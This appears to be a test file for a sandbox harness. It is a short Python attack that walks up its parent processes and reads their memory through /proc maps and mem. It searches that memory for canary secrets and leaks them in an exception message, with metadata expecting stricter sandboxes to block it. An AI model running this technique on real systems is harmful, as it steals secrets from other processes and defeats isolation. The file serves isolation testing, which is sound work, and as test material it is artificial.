# /// attack
# tries = "reads the memory of its ancestors and searches it for the oracles' secrets"
# open = { weak = "/proc of its own and no ptrace: medium refuses both" }
# seconds = 40
# outcomes = ["exception", "timeout"]
# ///

import os
import re

pid, told = os.getppid(), set()
while pid > 1 and not told:
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            area, rights = line.split()[:2]
            start, end = (int(bound, 16) for bound in area.split("-"))
            if rights.startswith("rw") and end - start < 64 << 20 and "/" not in line:
                try:
                    memory.seek(start)
                    told |= set(re.findall(rb"canary[0-9a-f]{24}[a-z]+", memory.read(end - start)))
                except OSError:
                    continue
    with open(f"/proc/{pid}/stat") as file:
        pid = int(file.read().rpartition(") ")[2].split()[1])
raise ValueError(str(sorted(told)))
